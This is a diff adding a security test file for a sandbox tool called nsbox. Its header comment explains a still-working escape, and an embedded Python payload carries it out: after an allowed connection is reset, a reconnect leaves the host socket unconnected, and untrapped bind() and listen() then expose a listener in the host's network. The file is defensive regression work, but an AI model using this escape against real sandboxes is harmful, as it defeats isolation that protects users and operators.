@@ -1,0 +1,111 @@
+// Attacks on transparent egress (issue 14) that still WORK: each test here fails until the fix
+// named in its comment lands. Real sandboxes; scripts/test runs this file as root and as uid 1000.
+//
+// A host TCP socket that nsbox installed in the payload's place (ADDFD) can be brought back to
+// "unconnected" without any trapped call nsbox refuses: after the connection ends (an RST from
+// the allowed server here; a FIN both ways, or shutdown() while SYN_SENT, do as well), one more
+// connect() to the same allowed destination is decided "allowed" and executed on the host
+// socket, where the kernel's sock_error path calls disconnect and sets SS_UNCONNECTED. bind()
+// and listen() are not trapped: the payload then LISTENS IN THE HOST'S NETWORK NAMESPACE (any
+// host address, any unprivileged port, or all interfaces with a bare listen()), and a host
+// process (the user's browser opening localhost:PORT) talks to the sandbox.
+// Fix (src/plan/seccomp-notify.ts + src/net/unotify.ts): trap bind and listen too; in the
+// dispatcher refuse them (EPERM) on a socket that is not inSandbox(), and on a sandbox socket
+// execute listen on nsbox's duplicate for inet (no memory argument, same object as checked) and
+// answer bind/listen of AF_UNIX with the kernel's own... see the report.
+import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { createConnection, createServer, type Server } from "node:net";
+import { writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { background, cleanedUp, scratchIn } from "./helpers.ts";
+
+const PYTHON = "/usr/bin/python3";
+const made = cleanedUp();
+const env: Record<string, string> = Object.fromEntries(
+  Object.entries(process.env).filter((e): e is [string, string] => e[1] !== undefined && !/_proxy$/i.test(e[0])),
+);
+const NO_PROXY_VARS = ["env", ...["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY"].flatMap((n) => ["-u", n, "-u", n.toLowerCase()])];
+
+/** Host server on 127.0.0.1 that answers every connection with an RST (SO_LINGER 0 close). */
+let resetting: Server;
+let resetPort = 0;
+beforeAll(async () => {
+  resetting = createServer((c) => c.resetAndDestroy());
+  await new Promise<void>((r) => resetting.listen(0, "127.0.0.1", r));
+  resetPort = (resetting.address() as { port: number }).port;
+});
+afterAll(() => resetting.close());
+
+/*
+ * The payload: connect to the allowed server (nsbox installs a host socket), wait for the reset,
+ * connect again (decided allowed, executed on the host socket: now unconnected), then bind
+ * (unless "bare") and listen, print the port, and greet whoever connects.
+ */
+const PAYLOAD = String.raw`
+import socket, sys, time
+port, how = int(sys.argv[1]), sys.argv[2]
+s = socket.socket()
+if how != "sandbox":
+    s.connect(("127.0.0.1", port))
+    try: s.recv(1)
+    except OSError: pass
+    time.sleep(0.1)
+    try: s.connect(("127.0.0.1", port))
+    except OSError as e: print("reconnect:", e, flush=True)
+try:
+    if how != "bare": s.bind(("127.0.0.1", 0))
+    s.listen(4)
+except OSError as e:
+    print("REFUSED", e, "READY", flush=True); sys.exit(0)
+print("LISTENING", s.getsockname()[1], s.getsockname()[0], "READY", flush=True)
+s.settimeout(8)
+try:
+    c, _ = s.accept(); c.sendall(b"from-sandbox"); c.close()
+except OSError: pass
+`;
+
+/** Connect from the host to 127.0.0.1:port: what it reads (empty when refused or silent). */
+function hostReads(port: number): Promise<string> {
+  return new Promise((resolve) => {
+    let got = "";
+    const c = createConnection({ host: "127.0.0.1", port });
+    const done = () => resolve(got);
+    c.setTimeout(4000, () => c.destroy());
+    c.on("data", (d) => (got += d.toString()));
+    c.on("error", done);
+    c.on("close", done);
+  });
+}
+
+async function attack(how: "reset" | "bare" | "sandbox") {
+  const dir = scratchIn(made);
+  writeFileSync(join(dir, "payload.py"), PAYLOAD);
+  const run = background([process.execPath, "--no-env-file", "--config=/dev/null", join(import.meta.dir, "..", "bin", "nsbox"), `--net`, `allow=127.0.0.1:${resetPort}`, "--", ...NO_PROXY_VARS, PYTHON, "payload.py", String(resetPort), how], { cwd: dir, env });
+  const ready = await run.waitFor("READY");
+  const m = /LISTENING (\d+)/.exec(run.out);
+  const read = m ? await hostReads(Number(m[1])) : "";
+  run.proc.kill();
+  const end = await run.finish();
+  return { ready, out: run.out, read, stderr: end.stderr };
+}
+
+describe("a host socket nsbox installed is never a listener in the host's network", () => {
+  test("control: a listener on the sandbox's own socket is not reachable from the host, and the host probe does reach a host listener", async () => {
+    const r = await attack("sandbox");
+    expect(r.out).toContain("LISTENING ");
+    expect(r.read).toBe("");
+    const host = createServer((c) => c.end("from-host"));
+    await new Promise<void>((ok) => host.listen(0, "127.0.0.1", ok));
+    expect(await hostReads((host.address() as { port: number }).port)).toBe("from-host");
+    host.close();
+  });
+
+  for (const how of ["reset", "bare"] as const) {
+    test(`after the allowed peer resets it, connect again then ${how === "bare" ? "listen()" : "bind()+listen()"}: the host never reaches the sandbox`, async () => {
+      const r = await attack(how);
+      expect(r.ready).toBe(true);
+      expect(r.read).not.toContain("from-sandbox");
+      expect(r.out).toContain("REFUSED");
+    });
+  }
+});
